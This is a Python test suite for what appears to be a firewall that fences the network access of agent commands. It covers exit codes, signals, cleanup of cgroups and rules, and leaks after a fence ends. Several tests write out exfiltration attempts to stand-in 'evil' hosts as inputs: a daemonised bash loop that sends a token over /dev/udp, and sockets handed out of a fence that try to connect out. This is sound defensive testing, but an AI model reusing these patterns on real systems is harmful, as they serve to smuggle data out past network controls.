# SPDX-License-Identifier: GPL-2.0-or-later
"""The end of a fence: its status, signals, what is left, what still gets out of sockets that outlive it."""
import os
import signal
import socket
import subprocess
import threading
import time

import lab as L
import topo
from agents import stream
from lab import check

NAME = "api.allowed.test"
POLICY = L.policy(NAME)


def test_nothing_left(lab):
    h = lab.start(POLICY, ["/bin/sh", "-c", "echo READY; read x"])
    check(lab.daemons() and "agentfw" in lab.rules(), "no daemon, no table:", lab.daemons(), lab.rules())
    cg = h.cgroup()
    r = h.result()
    check(r.rc in (0, 1), r.tell())
    L.until(lambda: not os.path.exists(cg), 5, "the cgroup is still there: " + cg)
    lab.wait_clean()


def test_idle_daemon_goes(lab):
    lab.run(POLICY, ["/bin/true"])
    L.until(lambda: not lab.daemons(), 15, "agentfwd stays without a fence")
    lab.wait_clean()


def test_exit_status(lab):
    for cmd, want in ((["/bin/sh", "-c", "exit 0"], 0), (["/bin/sh", "-c", "exit 7"], 7), (["/bin/sh", "-c", "exit 255"], 255),
                      (["/bin/sh", "-c", "exit 125"], 125), (["/no/such/program"], 127), (["/etc/passwd"], 126),
                      (["/bin/sh", "-c", "kill -9 $$"], 137), (["/bin/sh", "-c", "kill -15 $$"], 143)):
        r = lab.run(POLICY, cmd)
        got = r.rc if r.rc >= 0 else 128 - r.rc
        check(got == want, cmd, "status", r.rc, "wanted", want, r.tell())


def test_standard_streams(lab):
    r = lab.run(POLICY, ["/bin/sh", "-c", "cat; echo to stderr >&2"], stdin="through the pipe\n")
    check(r.out == "through the pipe\n" and "to stderr" in r.err, r.tell())


def test_signals_pass(lab):
    for sig, word in ((signal.SIGTERM, "TERM"), (signal.SIGINT, "INT"), (signal.SIGHUP, "HUP"), (signal.SIGUSR1, "USR1")):
        h = lab.start(POLICY, ["/bin/sh", "-c", "trap 'echo GOT; exit 9' %s; echo READY; while :; do sleep 0.05; done" % word])
        os.kill(h.ctl_pid(), sig)
        r = h.result()
        check("GOT" in r.out and r.rc == 9, word, r.tell())


def test_signal_death(lab):
    h = lab.start(POLICY, L.WAIT)
    os.kill(h.ctl_pid(), signal.SIGTERM)
    r = h.result()
    check(r.rc in (143, -15), "status", r.rc)
    lab.wait_clean()


def test_kill_agentctl(lab):
    """kill -9 of agentctl: its command dies, the fence goes."""
    tok = L.token()
    h = stream(lab, POLICY, topo.EVIL4, 9000, tok)
    cg = h.cgroup()
    pids = L.members(cg)
    check(pids)
    os.kill(h.ctl_pid(), signal.SIGKILL)
    h.p.wait()
    L.until(lambda: all(map(L.gone, pids)), 5, "the command lives on")
    L.until(lambda: not os.path.exists(cg), 5, "the cgroup is still there")
    lab.absent(tok)
    lab.wait_clean()


def test_background_processes_die(lab):
    """What the command leaves behind dies with the fence, daemonised or not."""
    tok = L.token()
    send = "exec 3<>/dev/udp/%s/9999; while :; do printf %%s %s >&3; sleep 0.02; done" % (topo.EVIL4, tok)
    for how in ("(%s) & echo $!" % send, "setsid /bin/bash -c '%s' >/dev/null 2>&1 </dev/null & echo $!" % send,
                "nohup /bin/bash -c '%s' >/dev/null 2>&1 </dev/null & echo $!; disown -a" % send):
        r = lab.run(POLICY, ["/bin/bash", "-c", "%s; sleep 0.2" % how], timeout=15)  # so that it has begun
        check(r.rc == 0, r.tell())
        lab.absent(tok)
        L.until(lambda: not [p for p in lab.netns_pids() if p not in lab.daemons()], 5,
                   lambda: "still running: %s" % lab.left_over())
    lab.absent(tok)


def test_no_leak_after_the_end(lab):
    """What lies in a socket's buffer when the agent goes does not leak when the fence is taken down."""
    for half in (0, 1):
        for to in (topo.ALLOWED4, topo.ALLOWED6):
            args = dict(to=to, port=443, sni=NAME, evil="evil.test", half=half)
            lab.works_bare("queued", L.token(), **args)
            tok = L.token()
            lab.run(POLICY, [L.PYTHON, "-c", """
import socket, os, sys
socket.getaddrinfo('%s', 443)
os.execv(sys.argv[1], sys.argv[1:])
""" % NAME] + lab.attack("queued", token=tok, **args))
            lab.absent(tok, "right after the end")
            lab.none_arrives([tok], 2.5, "retransmitted after the end")  # TCP does after 0.2, 0.4, 0.8 … s


def test_no_leak_after_the_end_of_a_held_flow(lab):
    """The same with the connection still open in a killed process."""
    tok = L.token()
    code = """
import socket, time, sys
sys.path.insert(0, %r)
import wire
socket.getaddrinfo(%r, 443)
s = socket.create_connection((%r, 443))
s.sendall(wire.client_hello(%r, b'%s')[:130])
print('READY', flush=True)
time.sleep(60)
""" % (L.HERE, NAME, topo.ALLOWED4, NAME, tok)
    h = lab.start(POLICY, [L.PYTHON, "-c", code])
    lab.absent(tok, "half a hello")
    h.stop(signal.SIGKILL)
    lab.none_arrives([tok], 2.5, "after the end")


def test_ended_fences_are_forgotten(lab):
    """The rules do not grow with the fences that were."""
    keep = lab.start(POLICY, ["/bin/sh", "-c", "echo READY; read x"])
    lines = lambda: len(lab.bare(["nft", "list", "ruleset"]).out.splitlines())
    check(lab.run(POLICY, ["/bin/true"]).rc == 0)
    before = lines()
    for _ in range(10):
        check(lab.run(POLICY, ["/bin/true"]).rc == 0)
    check(lines() == before, before, "lines, and then", lines())
    keep.stop()


def test_the_directory_of_cgroups_goes(lab):
    """A daemon of another network namespace takes it along while this one starts."""
    lab.wait_clean()
    over = threading.Event()

    def take():
        while not over.is_set():
            L.remove_cgroups()
    thread = threading.Thread(target=take)
    thread.start()
    try:
        for _ in range(10):
            p = subprocess.Popen(lab.enter() + [os.path.join(L.BUILD, "agentfwd"), "--ready-fd", "1"], stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True, env=lab.env())
            p.stdout.read(1)
            p.terminate()
            said = p.communicate(timeout=10)[1]
            check(p.returncode == 0 and not said, p.returncode, said)
    finally:
        over.set()
        thread.join()


def test_handed_on_sockets_are_destroyed(lab):
    """Of several fences that end together, and of no other."""
    listen = """
import socket, sys
s = [socket.socket(f) for f in (socket.AF_INET, socket.AF_INET6)]
for x in s: x.listen()
"""
    code = listen + "socket.send_fds(socket.socket(fileno=0), [b'here'], [x.fileno() for x in s])"
    keep = lab.start(POLICY, [L.PYTHON, "-c", listen + """
print("READY", flush=True); sys.stdin.readline()
print("STATES", [x.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] for x in s], flush=True); sys.stdin.readline()
"""])
    state = lambda s: s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    runs, passed = [], []
    for _ in range(5):
        here, there = socket.socketpair()
        _, argv = lab.argv(POLICY, [L.PYTHON, "-c", code])
        runs.append((here, subprocess.Popen(argv, stdin=there, env=lab.env(), cwd="/")))
        there.close()
    for here, p in runs:
        passed += [socket.socket(fileno=fd) for fd in socket.recv_fds(here, 100, 2)[1]]
        p.wait(15)
    check(len(passed) == 10, passed)
    L.until(lambda: all(state(s) == 7 for s in passed), 3, lambda: [state(s) for s in passed])
    keep.send("")
    keep.expect("STATES [10, 10]")
    for s in passed:
        s.close()
    keep.stop()


def test_sockets_that_outlive_their_fence(lab):
    """Whoever was handed a socket of an ended fence, also inside another fence, gets nothing out. A socket that is
    bound to nothing is in no list of sockets."""
    keep = lab.start(POLICY, ["/bin/sh", "-c", "echo READY; read x"])
    code = """
import socket
s = [socket.socket(f, t) for f in (socket.AF_INET, socket.AF_INET6)
     for t in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_DGRAM)]
s[2].bind(("", 0))
s[5].bind(("", 0))
socket.send_fds(socket.socket(fileno=0), [b"here"], [x.fileno() for x in s])
"""
    here, there = socket.socketpair()
    _, argv = lab.argv(POLICY, [L.PYTHON, "-c", code])
    p = subprocess.Popen(argv, stdin=there, env=lab.env(), cwd="/")
    there.close()
    _, fds, _, _ = socket.recv_fds(here, 100, 6)
    p.wait(15)
    here.close()
    passed = [socket.socket(fileno=fd) for fd in fds]
    check(len(passed) == 6, fds)
    L.until(lambda: len(lab.status()["fences"]) == 1, 5, lambda: "the fence does not go: %s" % lab.status()["fences"])
    toks = [L.token() for _ in passed]
    for s, tok in zip(passed, toks):
        s.settimeout(1)
        start = time.monotonic()
        try:
            s.connect((topo.EVIL4 if s.family == socket.AF_INET else topo.EVIL6, 9000))
            s.send(tok.encode())
        except OSError:
            pass
        check(time.monotonic() - start < 0.5, "the refusal is slow", s)
    lab.none_arrives(toks, 0.5, [(s.family, s.type) for s in passed])
    for s in passed:
        s.close()
    keep.stop()
